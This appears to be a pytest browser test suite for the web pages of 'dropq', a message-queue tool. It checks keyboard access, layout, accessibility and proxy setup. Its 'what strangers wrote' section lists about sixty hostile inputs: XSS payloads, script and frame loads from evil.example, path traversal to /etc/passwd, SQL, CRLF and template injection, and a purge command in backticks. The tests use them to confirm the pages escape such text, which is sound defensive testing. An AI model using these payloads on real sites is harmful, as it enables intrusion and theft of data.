"""The page in a real browser: by keyboard, on narrow screens, for those who see little, and against who attacks it."""

from __future__ import annotations

import grp
import json
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import zipfile
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from helpers import Clock, base, events, first_and_long, until
from jinja2 import FunctionLoader
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
from webpage import ACTED, READ, TRACEBACK, Watch, press, served, shop
from workers import Working

from dropq import Queue, Root
from dropq.format.escapes import encode
from dropq.format.layout import UNSETTLED
from dropq.format.names import can_name_queue
from dropq.format.printable import escape, visible
from dropq.web.pages import Site
from dropq.web.trend import Trends

if TYPE_CHECKING:
    from pyspark.sql import SparkSession

TOP = Path(__file__).parents[2]
#: Milliseconds that a browser waits for what is to come, on a busy machine.
PATIENCE = 600_000


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One Chromium for all tests here."""
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("no chromium: apt-get install chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"], timeout=PATIENCE)
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with context_of(browser) as context:
        yield context.new_page()


@contextmanager
def context_of(browser: Browser, **options: Any) -> Iterator[BrowserContext]:
    """A browser that has seen nothing yet."""
    context = browser.new_context(**options)
    context.set_default_timeout(PATIENCE)
    yield context
    context.close()


def root_of(tmp_path: Path, *names: str, name: str = "root") -> tuple[Root, list[Queue]]:
    root = Root.create(tmp_path / name)
    return root, [root.create_queue(each, durability="none", redelivery_delay=0) for each in names]


def vias(queue: Queue, event: str) -> list[object]:
    """By way of what somebody did something, as the log says."""
    return [each.fields.get("via") for each in events(queue) if each.event == event]


# -- by keyboard -----------------------------------------------------------------------------------------------------


def tab_to(page: Page, name: str) -> None:
    """Press Tab until what has the focus is called so; it must show that it has it."""
    names = []
    for _ in range(100):
        page.keyboard.press("Tab")
        called, outline = page.evaluate(
            "(e => [(e.labels?.[0] ?? e).innerText || e.ariaLabel || '', getComputedStyle(e).outlineStyle])"
            "(document.activeElement)"
        )
        assert outline != "none", f"{called} does not show that it has the focus"
        if called.strip() == name:
            return
        names.append(called)
    pytest.fail(f"no {name} among {names}")


def enter(page: Page, name: str) -> None:
    """Come to a link or a button by Tab, and press it."""
    tab_to(page, name)
    with page.expect_navigation():
        page.keyboard.press("Enter")


def test_by_keyboard_a_reader_learns_why_a_queue_stands_still_and_resumes_it(tmp_path: Path, page: Page) -> None:
    root, (still, paused) = root_of(tmp_path, "still", "paused")
    still.send(b"x")
    paused.pause()
    clock = Clock()
    clock.advance(120)
    with served(Root(root.path, clock=clock), writable=True) as (address, _):
        page.goto(address)
        enter(page, "Hold still")
        enter(page, "still")
        assert "nobody has taken one for 2m" in page.inner_text(".findings")
        page.go_back()
        enter(page, "paused")
        assert "dropq resume paused" in page.inner_text(".findings")
        enter(page, "Resume …")
        assert paused.paused, "a plan changes nothing"
        enter(page, "Resume it")
        assert page.inner_text("h1") == "paused goes on"
        assert not paused.paused


def test_by_keyboard_a_reader_comes_to_the_traceback_of_a_failure(tmp_path: Path, page: Page) -> None:
    with shop(tmp_path / "root") as root, served(root) as (address, _):
        page.goto(f"{address}?still=1")
        enter(page, "orders")
        enter(page, "error")
        enter(page, next(root.queue("orders").browse("error")).id)
        assert page.locator("pre").first.inner_text() == TRACEBACK


def test_by_keyboard_what_a_filter_matches_is_requeued(tmp_path: Path, page: Page) -> None:
    with shop(tmp_path / "root") as root, served(root, writable=True) as (address, _):
        page.goto(f"{address}messages?q=orders&state=error")
        tab_to(page, "Filter")
        page.keyboard.type("region = 'EU'")
        with page.expect_navigation():
            page.keyboard.press("Enter")
        assert page.locator("tbody tr").count() == 2
        enter(page, "Requeue all …")
        assert page.inner_text("h1") == "Requeue 2 messages of orders, error?"
        enter(page, "Requeue 2 messages")
        assert page.inner_text("h1") == "2 messages requeued"
        left = {message.properties["region"] for message in root.queue("orders").browse("error")}
        assert left == {"US"}
        assert vias(root.queue("orders"), "requeued") == ["web", "web"]


def test_by_keyboard_a_purge_wants_the_right_name_of_the_queue(tmp_path: Path, page: Page) -> None:
    root, (queue,) = root_of(tmp_path, "orders")
    for _ in range(3):
        queue.send(b"x")
    with served(root, writable=True) as (address, _):
        page.goto(f"{address}messages?q=orders")
        enter(page, "Purge all …")
        for typed, left in (("order", 3), ("orders", 0)):
            tab_to(page, "To go on, type the queue's name: orders")
            page.keyboard.type(typed)
            enter(page, "Purge 3 messages")
            assert queue.counts()["target"] == left
            assert (page.get_by_role("alert").count() == 1) == (left == 3), "a wrong name is said to be wrong"
        assert page.inner_text("h1") == "3 messages purged"


# -- on each screen --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "size"), [(320, "100%"), (640, "200%")])
def test_no_page_is_wider_than_a_narrow_screen_or_with_large_letters(
    tmp_path: Path, page: Page, width: int, size: str
) -> None:
    page.set_viewport_size({"width": width, "height": 600})
    with shop(tmp_path / "the shop") as root, served(root, writable=True) as (address, _):
        for name, way in {**READ, **ACTED}.items():
            way(page, address)
            page.evaluate("size => document.documentElement.style.fontSize = size", size)
            wide, there = page.evaluate("(e => [e.scrollWidth, e.clientWidth])(document.documentElement)")
            assert wide <= there, name


def test_the_page_is_light_or_dark_as_the_reader_wants_and_light_on_paper(tmp_path: Path, page: Page) -> None:
    with shop(tmp_path / "root") as root, served(root, writable=True) as (address, _):
        page.goto(f"{address}messages?q=orders&state=error")
        light = colours(page, color_scheme="light")
        dark = colours(page, color_scheme="dark")
        assert brightness(light[0]) < brightness(light[1])
        assert brightness(dark[0]) > brightness(dark[1])
        ink, ground = colours(page, media="print")
        assert (ink, ground) == (light[0], "rgb(255, 255, 255)"), "also where the screen is dark"
        assert not any(form.is_visible() for form in page.locator("form.find, .acts").all())
        assert page.locator("tbody tr").first.is_visible()
        assert page.pdf().startswith(b"%PDF")


def colours(page: Page, **media: Any) -> tuple[str, str]:
    page.emulate_media(**media)
    ink, ground = page.evaluate("(style => [style.color, style.backgroundColor])(getComputedStyle(document.body))")
    return ink, ground


def brightness(colour: str) -> int:
    return sum(map(int, colour.removeprefix("rgb(").removesuffix(")").split(",")))


#: The pages that look otherwise without buttons.
WITHOUT_BUTTONS = {name: READ[name] for name in ("a paused queue", "what failed", "a message that failed")}


@pytest.mark.parametrize("writable", first_and_long([True, False]))
def test_axe_finds_nothing_wrong_with_any_page(tmp_path: Path, browser: Browser, writable: bool) -> None:
    with (
        shop(tmp_path / "the shop") as root,
        served(root, writable=writable) as (address, _),
        context_of(browser, bypass_csp=True) as context,
    ):
        page = context.new_page()
        for name, way in {**READ, **ACTED}.items() if writable else WITHOUT_BUTTONS.items():
            way(page, address)
            assert not violations(page, "light"), name
            assert not violations(page, "dark", runOnly=["color-contrast"]), name


def violations(page: Page, scheme: Any, **options: Any) -> list[tuple[str, str]]:
    """What axe finds wrong with a page in a colour scheme."""
    page.emulate_media(color_scheme=scheme)
    found = Axe().run(page, options=options).response["violations"]
    return [(each["help"], each["nodes"][0]["html"]) for each in found]


# -- what strangers wrote --------------------------------------------------------------------------------------------

SCRIPT = "alert(1)"
HOSTILE = (
    f"<script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"</pre></main><script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script>",
    f"]]><script>{SCRIPT}</script>",
    f"<scr<script>ipt>{SCRIPT}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=//evil.example/x>',
    '" onfocus=alert(1) autofocus="',
    "' onmouseover=alert(1) x='",
    '" style="position:fixed" x="',
    "` onclick=alert(1) x=`",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=id><button>",
    '"><input type=submit formaction=//evil.example>',
    "<style>@import '//evil.example';</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example/?a=b#c",
    "<!-- <img src=x> -->",
    "<![CDATA[<img src=x>]]>",
    "<?php echo 1 ?>",
    "<plaintext>",
    "<template><img src=x></template>",
    "<noscript><img src=//evil.example></noscript>",
    "&lt;img src=x&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;quot;&newline;&colon;",
    "{{ 7 * 7 }}{{ site.root }}",
    "{% raw %}{% endraw %}{# #}",
    "${7*7}#{7*7}%{7*7}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aSet-Cookie:%20a=b",
    "\\x3cscript\\x3e\\\\u003c",
    "`dropq purge orders --all`",
    "../../../../etc/passwd",
    "' OR 1=1; --",
    "\u202egnp.exe\u202d\u2066\u2069",
    "zero\u200bwidth\u200d\ufeff\u00ad",
    "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "tab\there\x08\x7f\x85",
    f"<SCRIPT\n>{SCRIPT}</SCRIPT>",
    "new\nline\r\nand \u2028 more \u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\U000e0041\U000e007f tags \ufffe \U0010ffff",
    "Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o\u0339" * 3,
)
HARMLESS = tuple(f"harmless number {number}" for number in range(len(HOSTILE)))


#: Together they do no less, and need fewer pages.
GROUP = 5


def grouped(texts: tuple[str, ...]) -> list[str]:
    """The texts, a few in each."""
    return [" ".join(texts[place : place + GROUP]) for place in range(0, len(texts), GROUP)]


def file_name(text: str) -> str:
    """A text as a name of a file, which may have anything but a slash; not hidden."""
    return text.replace("/", "\u2215").lstrip(".")


def joined(parts: Iterable[str], by: str, most: int) -> Iterator[str]:
    """Join parts of a name, as many as find room in so many bytes."""
    some: list[str] = []
    for part in parts:
        if some and len(by.join([*some, part]).encode()) > most:
            yield by.join(some)
            some = []
        some.append(part)
    yield by.join(some)


def fill(path: Path, texts: tuple[str, ...]) -> Root:
    """Make a root with each text in each field of a message, of a failure, of a claim, of names and of the log."""
    root, (queue, by_hand, named) = root_of(path, "q", "by-hand", "named")
    for text in grouped(texts):
        queue.send(text.encode(), type="failed", properties={"text": text})
        with queue.subscribe() as subscription:
            message = subscription.receive()
            assert message is not None
            message.reject(text, detail=text, traceback=f"{text}\n  {text}", stderr=f"{text}\n{text}")
    queue.send_many(
        {"body": text, "type": text, "correlation_id": text, "reply_to": text, "properties": {"text": text}}
        for text in grouped(texts)
    )
    folder, lines = base(by_hand), list[str]()
    for text in texts:
        (folder / "target" / file_name(text)).write_text("x")
        (folder / "error" / f"4.{encode(text)}.B").write_text("x")
        (folder / "processing" / f"{encode(text)}~4.id{len(lines)}.B").write_text("x")
        said = dict.fromkeys(("id", "name", "state", "owner", "reason", "to", "via", "detail", "traceback"), text)
        lines.append(json.dumps({"time": utc_text(), "event": "failed", **said}))
    for number, names in enumerate(joined((f"{encode(text)}S=x" for text in texts), "&", 180)):
        (base(named) / "target" / f"4.id{number}.B.....{names}").write_text("x")
    (log,) = (base(queue) / ".dropq" / "log").iterdir()
    (folder / ".dropq" / "log").mkdir(exist_ok=True)
    (folder / ".dropq" / "log" / log.name).write_text("\n".join(lines) + "\n")
    return root


def utc_text() -> str:
    return datetime.now(UTC).isoformat(timespec="milliseconds")


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[tuple[str, str]]:
    """The addresses of a root full of hostile texts, and of its twin with harmless ones."""
    roots = [fill(tmp_path / str(number), texts) for number, texts in enumerate((HOSTILE, HARMLESS))]
    with served(roots[0], writable=True) as (one, _), served(roots[1], writable=True) as (other, _):
        yield one, other


class Built(NamedTuple):
    """A page taken apart: how many elements it has of each kind, with the names of their attributes; and its text."""

    elements: Counter[str]
    text: str


def built(page: Page) -> Built:
    """Take a page apart. Text between backticks is shown as a command, in an element of its own: it does not count."""
    found = page.evaluate(
        "[...document.querySelectorAll('*')].map(e => [e.tagName, ...[...e.attributes].map(a => a.name)].join(' '))"
    )
    text, values = page.evaluate(
        "[document.documentElement.textContent, [...document.querySelectorAll('*')].flatMap("
        "e => [...e.attributes].filter(a => !(a.name == 'value' && e.name == 'filter')).map(a => a.value)).join(' ')]"
    )
    unseen = {char for char in text + values if not char.isprintable()} - {"\n", "\t"}
    assert not unseen, "what cannot be seen is written as an escape"
    return Built(Counter(each for each in found if each != "CODE"), text)


def links(page: Page) -> list[str]:
    return list(page.evaluate("[...document.querySelectorAll('tbody a.id')].map(a => a.href)"))


def test_there_are_sixty_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize(("state", "fields"), [("target", 5), ("error", 6)])
def test_no_hostile_text_of_a_message_adds_an_element_runs_or_asks_elsewhere(
    page: Page, hostile: tuple[str, str], state: str, fields: int
) -> None:
    lists, (harmless,) = of_twins(page, hostile, f"messages?q=q&state={state}", 1)
    assert lists[0] == lists[1]
    page.goto(f"{hostile[0]}messages?q=q&state={state}")
    watch = Watch(page, hostile[0])
    for link, text in zip(links(page), grouped(HOSTILE), strict=True):
        page.goto(link)
        shown = built(page)
        assert shown.elements == harmless
        assert shown.text.count(visible(text)) + shown.text.count(escape(text)) >= fields
    watch.check()


def of_twins(
    page: Page, addresses: tuple[str, str], path: str, count: int
) -> tuple[list[Counter[str]], list[Counter[str]]]:
    """Return what a page of both roots is made of, and the first pages that the harmless one leads to."""
    lists = []
    for address in addresses:
        watch = Watch(page, address)
        page.goto(address + path)
        lists.append(built(page).elements)
        watch.check()
        page = page.context.new_page()
    page.goto(addresses[1] + path)
    followed = []
    for link in links(page)[:count]:
        page.goto(link)
        followed.append(built(page).elements)
    page.close()
    return lists, followed


@pytest.mark.parametrize("path", ["messages?q=by-hand", "messages?q=by-hand&state=error", "log?q=by-hand"])
def test_no_hostile_name_or_line_that_somebody_made_by_hand_adds_an_element_runs_or_asks_elsewhere(
    page: Page, hostile: tuple[str, str], path: str
) -> None:
    lists, _ = of_twins(page, hostile, path, 0)
    assert lists[0] == lists[1]
    page.goto(hostile[0] + path)
    shown = built(page).text
    for text in HOSTILE:
        assert any(each in shown for each in (escape(text), visible(text), escape(file_name(text))))


def test_no_hostile_name_of_a_holder_or_a_property_adds_an_element_runs_or_asks_elsewhere(
    page: Page, hostile: tuple[str, str]
) -> None:
    for path in ("messages?q=by-hand&state=processing", "queue?q=by-hand&still=1"):
        lists, _ = of_twins(page, hostile, path, 0)
        assert lists[0] == lists[1]
    page.goto(f"{hostile[0]}messages?q=named")
    watch, shown = Watch(page, hostile[0]), ""
    _, (harmless, *_) = of_twins(page, hostile, "messages?q=named", 1)
    for link in links(page):
        page.goto(link)
        found = built(page)
        assert found.elements.keys() <= harmless.keys()
        shown += found.text
    watch.check()
    assert [text for text in HOSTILE if escape(text) not in shown] == []


def test_no_hostile_name_of_a_queue_or_a_root_adds_an_element_runs_or_asks_elsewhere(
    tmp_path: Path, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Trends, "note", lambda trends, viewer: None)  # a page has one more row of it each ten seconds
    together = [*joined(map(queue_name, HOSTILE), "", 240)]
    found: list[list[Counter[str]]] = []
    for kind, queues in (("hostile", together), ("harmless", [f"harmless {place}" for place in range(len(together))])):
        root, _ = root_of(tmp_path, *queues, name=kind)
        page = page.context.new_page()
        with served(root, writable=True) as (address, _):
            watch, elements = Watch(page, address), []
            monkeypatch.setattr(Site, "name", kind)
            page.goto(f"{address}?still=1")
            elements.append(built(page).elements)
            for name in queues if kind == "hostile" else queues[:1]:
                page.goto(f"{address}queue?still=1&q={quote(escape(name))}")
                assert page.locator("h1").text_content() == escape(name)
                elements.append(built(page).elements)
                press(page.get_by_role("button", name="Pause …"))
                elements.append(built(page).elements)
            for text in grouped(HOSTILE) if kind == "hostile" else []:  # a root's folder may have any name
                monkeypatch.setattr(Site, "name", text)
                page.goto(f"{address}?still=1")
                shown = built(page)
                assert escape(text) in shown.text
                assert shown.elements == elements[0]
            watch.check()
        found.append(elements)
    assert found[0][0] == found[1][0]
    for place, each in enumerate(found[0][1:]):
        assert each == found[1][1 + place % 2], place


def queue_name(text: str) -> str:
    """A text as the name of a queue, which has no slash and no control character."""
    return "".join(char for char in text.replace("/", "\u2215") if can_name_queue(char) or char == ".").lstrip(".")


def test_a_hostile_filter_adds_no_element_and_is_carried_out_as_it_was_shown(
    page: Page, hostile: tuple[str, str]
) -> None:
    address = hostile[0]
    watch = Watch(page, address)
    page.goto(f"{address}messages?q=q&filter=no+filter")
    mistaken = built(page).elements
    for text in grouped(HOSTILE):
        page.goto(f"{address}messages?q=q&filter={quote(text, safe='')}")
        assert built(page).elements == mistaken
        if "\n" not in text:  # a form has the same line break for all
            page.goto(f"{address}messages?q=q&state=error&filter={quote(equal_to(text), safe='')}")
            assert "1 of 13 match" in built(page).text
            press(page.get_by_role("button", name="Requeue all …"))
            built(page)
            assert page.inner_text("h1") == "Requeue 1 message of q, error?"
    watch.check()


def equal_to(text: str) -> str:
    """A filter that messages with a text match."""
    doubled = text.replace("'", "''")
    return f"text = '{doubled}'"


def test_a_script_that_is_in_a_template_does_not_run(tmp_path: Path, page: Page) -> None:
    root, _ = root_of(tmp_path)
    with served(root) as (address, application):
        watch = Watch(page, address)
        page.goto(f"{address}?still=1")
        watch.check()
        templates = application._templates
        assert templates.loader is not None
        load = templates.loader.get_source
        inserted = "<script>document.title = 'ran'</script><img src=/x onerror=\"document.title = 'ran'\"></body>"
        source = FunctionLoader(lambda name: load(templates, name)[0].replace("</body>", inserted))
        templates.loader, templates.cache = source, None
        page.goto(f"{address}?still=1")
        assert page.locator("script").count() == 1
        assert page.title() == "root · dropq"
        until(lambda: page.title() and len(watch.said) >= 2, "what the browser says of both")
        assert all("Content Security Policy" in each for each in watch.said)


# -- behind a proxy, without a network -------------------------------------------------------------------------------


@contextmanager
def command(*argv: str) -> Iterator[str]:
    """Run a `dropq` that stays; yield the first line that it prints."""
    line = [sys.executable, "-m", "dropq", *argv]
    with subprocess.Popen(line, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            yield process.stdout.readline()
        finally:
            process.terminate()
    assert process.returncode == 0


@pytest.fixture
def folder() -> Iterator[Path]:
    """A folder with a short name, as that of a socket has to be."""
    with tempfile.TemporaryDirectory() as made:
        yield Path(made)


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        return int(server.getsockname()[1])


@contextmanager
def nginx(folder: Path, port: int, location: str) -> Iterator[None]:
    """Run nginx with a certificate of its own and two users."""
    program = shutil.which("nginx") or shutil.which("nginx", path="/usr/sbin")
    if program is None or shutil.which("openssl") is None:
        pytest.skip("no nginx or no openssl: apt-get install nginx openssl")
    make = "openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=localhost -keyout key.pem -out cert.pem"
    subprocess.run(make.split(), cwd=folder, check=True, capture_output=True)
    (folder / "users").write_text("ann:{PLAIN}secret\nbob:{PLAIN}secret\n")
    user = (
        f"user {pwd.getpwuid(os.geteuid()).pw_name} {grp.getgrgid(os.getegid()).gr_name};" if not os.geteuid() else ""
    )
    places = "".join(
        f"{each}_temp_path {folder}/{each};" for each in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    (folder / "nginx.conf").write_text(
        f"""{user} daemon off; worker_processes 1; pid {folder}/pid; error_log {folder}/errors;
        events {{ }}
        http {{
            access_log off; {places}
            server {{
                listen 127.0.0.1:{port} ssl;
                ssl_certificate {folder}/cert.pem;
                ssl_certificate_key {folder}/key.pem;
                {location}
            }}
        }}"""
    )
    arguments = [program, "-p", str(folder), "-c", str(folder / "nginx.conf"), "-e", str(folder / "errors")]
    with subprocess.Popen(arguments, stderr=subprocess.PIPE, text=True) as process:
        try:
            until(lambda: process.poll() is not None or is_open(port), "nginx")
            assert process.poll() is None, process.communicate()[1]
            yield
        finally:
            process.terminate()


def is_open(port: int) -> bool:
    with socket.socket() as caller:
        return caller.connect_ex(("127.0.0.1", port)) == 0


def test_behind_nginx_all_links_and_forms_work_and_the_proxy_alone_names_the_user(
    tmp_path: Path, folder: Path, browser: Browser
) -> None:
    (location,) = re.findall(
        r"^location /queues/ \{$.*?^\}$", (TOP / "docs/web.md").read_text(), re.DOTALL | re.MULTILINE
    )
    location = location.replace("/etc/nginx/dropq.users", f"{folder}/users")
    location = location.replace("/run/dropq/web.sock", f"{folder}/web.sock")
    port = free_port()
    address = f"https://localhost:{port}/queues/"
    logged_in: Any = {"username": "ann", "password": "secret"}
    with (
        shop(tmp_path / "root") as root,
        nginx(folder, port, location),
        command(
            *("--root", str(root.path), "web", "--listen", f"unix:{folder}/web.sock"),
            *("--proxy-user", "X-User", "--writable"),
        ),
        context_of(
            browser,
            ignore_https_errors=True,
            http_credentials=logged_in,
            extra_http_headers={"X-User": "root", "x_user": "root"},
        ) as context,
    ):
        page = context.new_page()
        watch = Watch(page, address)
        answers = Counter[int]()
        page.on("response", lambda response: answers.update([response.status]))
        todo, seen = [address], {address}
        while todo:
            page.goto(todo.pop())
            assert page.locator(".state-of-page").inner_text().startswith("ann · with buttons")
            hrefs = set(page.evaluate("[...document.querySelectorAll('a:not([download])')].map(a => a.href)"))
            new = {href.partition("#")[0] for href in hrefs} - seen
            assert all(href.startswith(address) for href in new)
            todo += new if len(seen) < 25 else ()
            seen |= new
        assert answers.keys() == {200}
        page.goto(f"{address}queue?q=orders")
        press(page.get_by_role("button", name="Pause …"))
        press(page.get_by_role("button", name="Pause it"))
        assert root.queue("orders").paused
        assert vias(root.queue("orders"), "paused") == ["web:ann"]
        watch.check()
    with nginx(folder, port, location), context_of(browser, ignore_https_errors=True) as stranger:
        assert stranger.request.get(address).status == 401


def test_a_page_asks_nothing_but_itself_and_its_style_sheet(tmp_path: Path, page: Page) -> None:
    with shop(tmp_path / "root") as root, command("--root", str(root.path), "web", "--listen", "127.0.0.1:0") as link:
        watch = Watch(page, link.strip())
        for way in READ.values():
            way(page, link.strip())
        watch.check()
        asked = {request.url.removeprefix(link.strip()).partition("?")[0] for request in watch.requests}
        assert asked == {"", "queue", "messages", "message", "log", "style.css"}
        assert page.evaluate("getComputedStyle(document.body).marginTop") == "0px", "the style is there"


def test_a_wheel_has_the_templates_and_the_style_sheet(tmp_path: Path) -> None:
    pytest.importorskip("setuptools", reason="no setuptools: pip install setuptools")
    for name in ("dropq", "cli", "setup.cfg", "pyproject.toml", "pyspark_dropq.py", "LICENSE", "docs/package.md"):
        place = tmp_path / "source" / name
        place.parent.mkdir(exist_ok=True, parents=True)
        copy = shutil.copytree if (TOP / name).is_dir() else shutil.copy
        copy(TOP / name, place)
    build = "from setuptools import setup; setup()"
    arguments = [sys.executable, "-c", build, "-q", "bdist_wheel", "-d", str(tmp_path)]
    subprocess.run(arguments, cwd=tmp_path / "source", check=True, capture_output=True)
    (wheel,) = tmp_path.glob("*.whl")
    web = TOP / "dropq" / "web"
    wanted = {str(path.relative_to(TOP)) for path in (web / "style.css", *(web / "templates").iterdir())}
    assert wanted <= set(zipfile.ZipFile(wheel).namelist())


@pytest.mark.parametrize("module", ["werkzeug", "waitress", "jinja2"])
def test_without_the_extra_web_says_what_to_install_and_all_else_works(tmp_path: Path, module: str) -> None:
    root, _ = root_of(tmp_path, "orders")
    for command, code, said in (("web", 69, "pip install 'dropq[web]'"), ("ls", 0, ""), ("health", 0, "")):
        script = f"import sys; sys.modules[{module!r}] = None; from dropq.__main__ import main; main()"
        arguments = [sys.executable, "-c", script, "--root", str(root.path), command]
        done = subprocess.run(arguments, capture_output=True, text=True, check=False)
        assert done.returncode == code, done.stderr
        assert said in done.stderr


# -- pages that stay open --------------------------------------------------------------------------------------------


def test_an_open_page_asks_for_itself_again_until_it_is_held_still(tmp_path: Path, page: Page) -> None:
    page.set_viewport_size({"width": 400, "height": 300})
    with shop(tmp_path / "root") as root, served(root) as (address, application):
        for path in ("", "queue?q=orders"):
            answer = page.goto(address + path)
            assert answer is not None
            assert answer.headers["refresh"] == "5"
            press(page.get_by_role("link", name="Hold still"))
            assert page.get_by_role("link", name="Go on").is_visible()
            held = page.reload()
            assert held is not None
            assert "refresh" not in held.headers
        press(page.get_by_role("link", name="Go on"))
        application.look()
        page.evaluate("scrollTo(0, 200)")
        first = page.locator(".state-of-page").inner_text()
        begun = page.evaluate("performance.timeOrigin")
        with page.expect_event("load"):
            pass
        assert page.evaluate("performance.timeOrigin") - begun > 4000
        assert page.locator(".state-of-page").inner_text() != first
        until(lambda: page.evaluate("scrollY") == 200, "the place that the reader was at")
        until(lambda: age_on(page) < 5 or not page.reload(), "a look meanwhile")
        application.site.viewer.close()
        age = age_on(page)
        until(lambda: page.reload() and age_on(page) > age + 1, "an age that grows while nobody looks")


def age_on(page: Page) -> float:
    """The seconds that a page says it is old."""
    (seconds,) = re.findall(r"([0-9.]+) s old", page.locator(".state-of-page").inner_text())
    return float(seconds)


def read_all(page: Page, address: str, is_over: Callable[[], bool], queue: str) -> int:
    """Read the pages of a queue again and again until its work is over; no page may fail. Return how often."""
    count = 0
    while not is_over() or count < 3:
        for path in ("?still=1", f"queue?still=1&q={queue}", f"messages?q={queue}&state=processed", f"log?q={queue}"):
            answer = page.goto(address + path)
            assert answer is not None
            assert answer.status == 200
        link = page.goto(f"{address}messages?q={queue}")
        for href in links(page)[:1]:
            answer = page.goto(href)
            assert answer is not None
            assert answer.status in (200, 404), "it is there, or moved on"
            assert page.locator("h1").count() == 1
        count += link is not None
    return count


def test_pages_stay_right_while_workers_and_scripts_work(tmp_path: Path, page: Page) -> None:
    root, (queue,) = root_of(tmp_path, "q")
    folder = base(queue)
    script = """i=0; while [ $i -lt 80 ]; do i=$((i+1)); echo $i > working/$i; mv working/$i target/job-$i
        f=$(ls target | head -1); [ -n "$f" ] && mv "target/$f" "processing/sh~$f" 2>/dev/null &&
        mv "processing/sh~$f" "processed/$f"; done"""
    over = threading.Event()
    with served(root, writable=True) as (address, _), Working(queue, lambda message: None):
        watch = Watch(page, address)
        with subprocess.Popen(["sh", "-c", script], cwd=folder, stderr=subprocess.DEVNULL) as shell:

            def send() -> None:
                while shell.poll() is None:
                    queue.send(b"x")
                over.set()

            sender = threading.Thread(target=send)
            sender.start()
            read_all(page, address, over.is_set, "q")
            sender.join()
        until(lambda: not sum(queue.counts()[each] for each in UNSETTLED), "the workers")
        count = queue.counts()["processed"]
        assert count >= 80
        until(lambda: page.goto(f"{address}queue?q=q&still=1") and state(page, "processed") == count, "a look after it")
        assert (state(page, "target"), state(page, "processing")) == (0, 0)
        watch.check()


def state(page: Page, name: str) -> int:
    """How many messages a queue's page says that a state has."""
    return int(
        page.locator(".states li", has=page.get_by_role("link", name=name, exact=True))
        .locator("strong")
        .inner_text()
        .replace(",", "")
    )


@pytest.mark.long
def test_pages_stay_right_while_spark_works(tmp_path: Path, page: Page, spark: SparkSession) -> None:
    root, (queue, out) = root_of(tmp_path, "q", "out")
    queue.send_many([b"x"] * 200)
    frame = spark.readStream.format("dropq").options(root=str(root.path), queue="q").load().select("value")
    job = frame.writeStream.format("dropq").options(root=str(root.path), queue="out").trigger(availableNow=True)
    with served(root) as (address, _):
        watch = Watch(page, address)
        query = job.option("checkpointLocation", str(tmp_path / "checkpoint")).start()
        read_all(page, address, lambda: not query.isActive, "out")
        query.awaitTermination()
        assert out.counts()["target"] == 200
        until(lambda: page.goto(f"{address}queue?q=out&still=1") and state(page, "target") == 200, "a look after it")
        watch.check()


@pytest.mark.long
def test_the_pictures_of_the_page_are_the_same_each_time(tmp_path: Path) -> None:
    if shutil.which("chromium") is None:
        pytest.skip("no chromium: apt-get install chromium")
    draw = str(TOP / "docs/draw_web.py")
    runs = [subprocess.Popen([sys.executable, draw, str(tmp_path / run)]) for run in ("a", "b")]
    assert [run.wait() for run in runs] == [0, 0]
    one, other = ({path.name: path.read_bytes() for path in (tmp_path / run).iterdir()} for run in ("a", "b"))
    assert one.keys() == {path.name for path in (TOP / "docs" / "web").iterdir()}
    assert [name for name in one if one[name] != other[name]] == []
